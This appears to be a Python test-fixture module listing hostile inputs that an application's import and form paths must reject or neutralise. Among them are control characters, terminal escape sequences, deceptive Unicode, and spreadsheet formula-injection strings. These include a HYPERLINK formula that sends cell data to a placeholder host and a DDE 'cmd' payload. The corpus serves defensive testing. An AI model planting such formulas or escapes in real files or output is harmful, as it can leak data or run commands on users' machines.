"""The hostile-input corpus: text that every entry point must refuse clearly or neutralise (issue 10).

Every entry point (import CSV/XLSX, CLI arguments, TUI forms, push items, the server's import) is fed these; each
must answer with a clear refusal naming the field, or store a neutralised value, never crash, never answer 5xx,
and never store half of something.
"""

from __future__ import annotations

__all__ = ["CONTROLS", "FORMULAS", "HOSTILE", "LONG", "ODD_DIGITS", "ODD_UNICODE", "TERMINAL_ESCAPES"]

#: control characters: refused in every record field (newlines allowed in notes only)
CONTROLS = ["a\x00b", "x\x01y", "bell\x07", "del\x7f", "c1\x9bx", "\x08backspace"]
#: what a terminal would act on if printed raw
TERMINAL_ESCAPES = ["\x1b]0;pwned\x1b\\Tên", "\x1b[2J\x1b[H", "\x1b[31mđỏ\x1b[0m", "\x9b2J"]
#: what a spreadsheet would run if written raw (OWASP CSV injection)
FORMULAS = [
    '=HYPERLINK("http://x/?"&B2,"Bấm")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
#: text that renders as something else, or is not what it looks like
ODD_UNICODE = ["\u202etxt.exe", "a\u2066b\u2069", "Ｃｏｎｇ ｔｙ", "e\u0301", "\ufeffBOM", "\U0001f600 😀"]
#: digits that are digits to Unicode but not to a tax office
ODD_DIGITS = ["０１０７７７７７７７", "٠١٠٧٧٧٧٧٧٧", "०१०७७७७७७७", "𝟎𝟏𝟎𝟕𝟕𝟕𝟕𝟕𝟕𝟕"]
#: more than any field takes
LONG = ["A" * 100_001, "Đ" * 5_000]
HOSTILE = [*CONTROLS, *TERMINAL_ESCAPES, *FORMULAS, *ODD_UNICODE, *ODD_DIGITS, *LONG]
